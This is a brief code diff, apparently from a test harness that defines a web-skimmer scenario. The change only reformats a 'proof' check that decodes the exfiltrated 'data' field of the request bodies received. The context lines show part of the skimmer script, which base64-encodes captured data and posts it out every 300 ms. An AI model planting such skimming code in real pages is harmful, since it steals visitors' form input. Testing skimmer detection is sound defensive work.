@@ -20,5 +20,7 @@ export default skimmer({
     x.send('data=' + encodeURIComponent(btoa(unescape(encodeURIComponent(now)))));
   }, 300);
 })();`),
-  proof: holds((arrived) => bodies(arrived).map((body) => base64(new URLSearchParams(body).get('data') ?? ''))),
+  proof: holds((arrived) =>
+    bodies(arrived).map((body) => base64(new URLSearchParams(body).get('data') ?? '')),
+  ),
 });
